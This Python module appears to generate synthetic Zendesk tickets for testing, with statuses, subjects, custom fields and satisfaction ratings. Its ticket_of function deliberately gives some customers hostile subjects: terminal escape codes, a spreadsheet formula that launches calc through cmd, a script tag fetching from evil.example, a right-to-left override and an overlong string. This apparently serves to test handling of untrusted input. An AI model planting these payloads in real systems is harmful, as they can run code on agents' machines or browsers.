"""What a Zendesk ticket looks like when it is new: its fields, its statuses, the words of the made-up customers."""

from typing import Any

from .customers import Customer
from .organizations import GROUP_ID, organization_id, requester_id
from .people import Person
from .world import Chance

AREA, SEVERITY, ROOT_CAUSE, ESCALATED, VERSIONS = (360_000_020_000 + place for place in range(5))

# id, category, label of the agents
CUSTOM_STATUSES = (
    (9001, "new", "New"),
    (9002, "open", "Open"),
    (9003, "open", "Waiting on engineering"),
    (9004, "pending", "Pending"),
    (9005, "pending", "Waiting for logs"),
    (9006, "hold", "On-hold"),
    (9007, "solved", "Solved"),
    (9008, "solved", "Solved by upgrade"),
)
STATUS_IDS = {
    "new": 9001,
    "open": 9002,
    "pending": 9004,
    "hold": 9006,
    "solved": 9007,
    "closed": 9007,
    "deleted": 9007,
}

SUBJECTS = (
    "SSO login fails for new users", "Pipeline stuck in pending", "How do we rotate deploy keys?",
    "Export drops umlauts", "Webhook arrives twice", "Upgrade path from the last long-term release",
    "Slow search on large projects",
    "License count differs from our list", "Runner loses its cache", "Two-factor reset for an administrator",
    "Audit log retention", "API answers 500 on bulk import", "E-mail notifications arrive late",
    "Merge queue skips a job", "Storage quota warning", "Invoice has the old address", "Question about seat true-up",
    "Container registry cleanup", "Restore of a deleted project", "LDAP groups out of sync",
)  # fmt: skip
_AREAS = ("area_login", "area_pipelines", "area_search", "area_billing", "area_api", "area_registry")
PRIORITIES = ("low", "normal", "normal", "normal", "high", "high", "urgent", None)
RATINGS = (
    ("good", "Quick and friendly, thank you!"),
    ("good", None),
    ("good", "Solved at first answer."),
    ("good", None),
    ("bad", "Had to explain the same thing three times."),
    ("good", "ありがとうございました"),
    ("bad", None),
)


def ticket_of(chance: Chance, customer: Customer, person: Person, subject: str) -> dict[str, Any]:
    """Return a new ticket a person at a customer wrote; some customers' subjects are attacks."""
    if customer.key == "escape":
        subject = f"\x1b]0;title\x07{subject}\x1b[2K\r"
    elif customer.key == "formula":
        subject = f"=2+5+cmd|' /C calc'!A0 {subject}"
    elif customer.key == "script":
        subject = f"<script>fetch('//evil.example')</script>{subject}"
    elif customer.key == "bidi":
        subject = f"\u202e{subject}"
    elif customer.key == "long":
        subject += " again" * 400
    return new_ticket(chance, subject, requester_id(person)) | {"organization_id": organization_id(customer)}


def new_ticket(chance: Chance, subject: str, requester: int) -> dict[str, Any]:
    """Return a new ticket of nobody in particular."""
    area, version = chance.pick(_AREAS), f"17.{chance.between(0, 11)}"
    fields = [
        {"id": AREA, "value": area},
        {"id": SEVERITY, "value": chance.pick(("sev_2", "sev_3", "sev_3", "sev_4"))},
        {"id": ROOT_CAUSE, "value": None},
        {"id": ESCALATED, "value": chance.happens(0.06)},
        {"id": VERSIONS, "value": [version]},
    ]
    return {
        "subject": subject,
        "raw_subject": subject,
        "description": f"{subject}\n\nWe see this since {version}. Steps are attached.",
        "status": "new",
        "custom_status_id": STATUS_IDS["new"],
        "priority": None,
        "type": chance.pick(("question", "incident", "problem", None)),
        "requester_id": requester,
        "submitter_id": requester,
        "assignee_id": None,
        "organization_id": None,
        "group_id": GROUP_ID,
        "external_id": None,
        "recipient": None,
        "via": {"channel": chance.pick(("web", "email", "api")), "source": {"from": {}, "to": {}, "rel": None}},
        "collaborator_ids": [],
        "follower_ids": [],
        "email_cc_ids": [],
        "problem_id": None,
        "has_incidents": False,
        "is_public": True,
        "due_at": None,
        "tags": [area],
        "custom_fields": fields,
        "satisfaction_rating": {"score": "unoffered"},
        "sharing_agreement_ids": [],
        "followup_ids": [],
        "ticket_form_id": 360_000_030_001,
        "brand_id": 360_000_040_001,
        "allow_channelback": False,
        "allow_attachments": True,
        "from_messaging_channel": False,
    }


def changed_fields(values: dict[str, Any], changed: dict[int, Any]) -> list[dict[str, Any]]:
    """Return the custom fields of a ticket with some of them changed."""
    return [{"id": field["id"], "value": changed.get(field["id"], field["value"])} for field in values["custom_fields"]]
